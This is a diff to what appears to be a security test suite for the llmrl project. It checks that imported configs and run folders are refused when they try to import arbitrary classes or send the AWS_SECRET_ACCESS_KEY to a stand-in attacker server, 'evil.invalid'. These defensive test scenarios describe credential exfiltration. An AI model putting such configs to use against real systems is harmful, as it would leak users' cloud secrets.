@@ -188,7 +188,7 @@ NAMED = {
     "Hydra's own instantiate": ("hydra.utils.instantiate", OUTSIDE),
     "a function of a package of parts": ("llmrl.llms.local.loading.load_model", "no part of llmrl"),
     "the ledger, which appends to any file": ("llmrl.llms.call_log.CallLog", OUTSIDE),
-    "a private class of a part's module": ("llmrl.agents.sb3_agent._Enough", "cannot be imported"),
+    "a private class of a part's module": ("llmrl.agents.sb3_agent._Enough", "sb3_agent._Enough"),
 }
 for _name, (_target, _words) in NAMED.items():
     attack(_name, "refused, nothing imported")(
@@ -468,7 +468,7 @@ CLOUD = "AWS_SECRET_ACCESS_KEY"
 HOSTED = "_target_: llmrl.llms.litellm_chat.LiteLLMChat"
 
 
-def sent(folder: Path, call: Callable[[str], Callable[[], Any]], words: str = CLOUD) -> tuple[bool, str]:
+def sent(folder: Path, call: Callable[[str], Callable[[], Any]], words: str = f"{CLOUD}@http") -> tuple[bool, str]:
     """Whether a call, which is given the address of a stranger's server, is refused before anything reaches it."""
     received: list[str] = []
 
@@ -528,7 +528,7 @@ for _name, (_scheme, _more) in PRESETS.items():
     def _(folder: Path, scheme: str = _scheme, more: tuple[str, ...] = _more) -> tuple[bool, str]:
         def call(url: str) -> Callable[[], Any]:
             url = "https://evil.invalid/v1" if scheme else url
-            content = f"llm: {json.dumps(serving_model(url))}"
+            content = f"defaults: [{{override /llm: openai_compatible}}, _self_]\nllm: {json.dumps(serving_model(url))}"
             return asked_by_preset(folder, content, *(word.format(url=url) for word in more))
 
         held, seen = sent(folder, call)
@@ -594,17 +594,20 @@ def _(folder: Path) -> tuple[bool, str]:
 
 
 def asking_run(folder: Path, url: str) -> Path:
-    """A stranger's run whose agent asks a model of theirs."""
-    import yaml
-
+    """A stranger's run whose player asks a model of theirs."""
     from llmrl.core.option_files import option
+    from llmrl.experiment.experiment import Experiment
+    from llmrl.experiment.models import POLICIES
+    from llmrl.run.config_hash import config_hash
 
-    agent = option("agent", "llm_player")
-    shared = yaml.safe_load((finished() / "config.yaml").read_text())
-    llm = {**option("llm", "openai_compatible"), **(shared.get("llm") or {}), **serving_model(url)}
-    run = theirs(folder, {"agent": agent, "llm": llm}, "failed")
+    words = ["env=blackjack", "agent=llm_player", "env.n_envs=1", "play.episodes=1"]
+    config = Experiment.compose(*words, "llm=scripted").config
+    policies = {key: value for key, value in config["llm"].items() if key in POLICIES}
+    config["llm"] = {**option("llm", "openai_compatible"), **policies, **serving_model(url)}
+    run = theirs(folder, {key: value for key, value in config.items() if key != "output_root"}, "failed")
+    run = run.parent.rename(run.parents[1] / f"run-{config_hash(config)}") / run.name
     status = json.loads((run / "status.json").read_text())
-    words = [*PLAIN[:1], "agent=llm_player", "llm=openai_compatible", f"llm.base_url={url}", f"llm.api_key_env={CLOUD}"]
+    words += ["llm=openai_compatible", "llm.model=m", f"llm.base_url={url}", f"llm.api_key_env={CLOUD}"]
     (run / "status.json").write_text(json.dumps({**status, "overrides": words}))
     return run
 
@@ -618,7 +621,13 @@ for _name, _words in FOLDERS.items():
 
     @attack(f"{_name} of a run folder that sends a secret of the cloud to its own server", "refused, nothing is sent")
     def _(folder: Path, words: Callable[[Path], tuple[str, ...]] = _words) -> tuple[bool, str]:
-        return sent(folder, lambda url: command(*words(asking_run(folder, url))))
+        def call(url: str) -> Callable[[], Any]:
+            run = asking_run(folder, url)
+            if words(run)[1] == "retry":
+                shutil.rmtree(run / "checkpoints")  # of another run, which could not go on
+            return command(*words(run))
+
+        return sent(folder, call)
 
 
 # --- terminals -------------------------------------------------------------------------------------------------------
